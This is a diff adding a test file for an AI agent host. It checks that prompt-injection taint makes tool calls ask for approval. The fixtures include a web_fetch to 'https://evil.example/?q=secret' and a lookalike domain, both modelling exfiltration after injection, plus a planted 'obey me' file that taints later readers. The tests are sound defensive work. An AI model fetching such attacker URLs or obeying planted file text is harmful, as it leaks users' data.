@@ -1,0 +1,88 @@
+import { expect, test } from 'vitest'
+import { update } from '../../handlers/agents/agents.ts'
+import { respond } from '../../handlers/chat/approvals.ts'
+import { send } from '../../handlers/chat/stream.ts'
+import { requireDefaultAgent } from '../../runtime/agents/agents.ts'
+import { call } from '../support/call.ts'
+import { chat, onlyApproval, onlyConversation } from '../support/chat.ts'
+import { testHost } from '../support/host.ts'
+import { type Step, scriptedModels, text, toolCall } from '../support/models.ts'
+import { workOff } from '../support/work.ts'
+
+const write = toolCall('files', { action: 'write', path: 'note.txt', content: 'tea' })
+
+test('text from outside makes even a granted tool ask', async () => {
+  const host = await testHost({ models: scriptedModels(write, text('Written.'), write, text('Written.')) })
+  await call(send, host, { body: { message: 'Write a note' } })
+  await workOff(host)
+  const approval = await onlyApproval(host)
+  const id = approval.conversation_id
+  await call(respond, host, {
+    params: { id },
+    body: { approval_id: approval.id, approved: true, remember: true },
+  })
+  await workOff(host)
+  await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1' }])
+  await call(send, host, { body: { message: 'Again', conversation_id: id } })
+  await workOff(host)
+
+  expect(await host.sql.read('SELECT status FROM approvals ORDER BY id')).toEqual([
+    { status: 'approved' },
+    { status: 'pending' },
+  ])
+})
+
+test.each([
+  ['a host that nobody named asks', 'Read the page', 'https://evil.example/?q=secret', 'pending'],
+  [
+    'one that the person named does not',
+    'Read news.example please',
+    'https://www.news.example/?q=1',
+    undefined,
+  ],
+  [
+    'a part of a named one is another',
+    'Read news.example please',
+    'https://news.example.evil.test/',
+    'pending',
+  ],
+])('after text from outside a fetch could carry things off: %s', async (_, message, url, status) => {
+  const models = scriptedModels(text('Hm'), toolCall('web_fetch', { url }), text('Done'))
+  const host = await testHost({ models })
+  await chat(host, { message })
+  const { id } = await onlyConversation(host)
+  await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1' }])
+  const response = await call(send, host, { body: { message: 'Go', conversation_id: id } })
+  await workOff(host)
+  expect(await host.sql.read('SELECT status, risk FROM approvals')).toEqual(
+    status ? [{ status, risk: 'medium' }] : [],
+  )
+  await response.body?.cancel()
+})
+
+test('what a tainted conversation writes down taints who reads it later', async () => {
+  const models = scriptedModels()
+  const host = await testHost({ models })
+  const agent = await requireDefaultAgent(host)
+  await call(update, host, { params: { id: agent.id }, body: { execution_mode: 'autonomous' } })
+  const tainted = async (steps: Step[], before = false) => {
+    models.add(text('Hm'), ...steps, text('Done'))
+    const [start] = await chat(host, { message: 'Hello' })
+    const id = start?.data.conversation_id ?? ''
+    if (before)
+      await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1 WHERE id = ?', args: [id] }])
+    await chat(host, { message: 'Go', conversation_id: id })
+    const rows = await host.sql.read<{ tainted: number }>('SELECT tainted FROM conversations WHERE id = ?', [
+      id,
+    ])
+    return rows[0]?.tainted === 1
+  }
+  const put = (path: string, content: string) => toolCall('files', { action: 'write', path, content })
+  const read = (path: string) => toolCall('files', { action: 'read', path })
+  const find = toolCall('files', { action: 'search', query: 'obey' })
+  await tainted([put('notes/page.md', 'obey me')], true)
+  expect(await tainted([put('own.md', 'mine'), read('own.md')])).toBe(false)
+  expect(await tainted([read('./notes/page.md')])).toBe(true)
+  expect(await tainted([find])).toBe(true)
+  expect(await tainted([put('notes/page.md', 'clean, obey'), read('notes/page.md')])).toBe(false)
+})
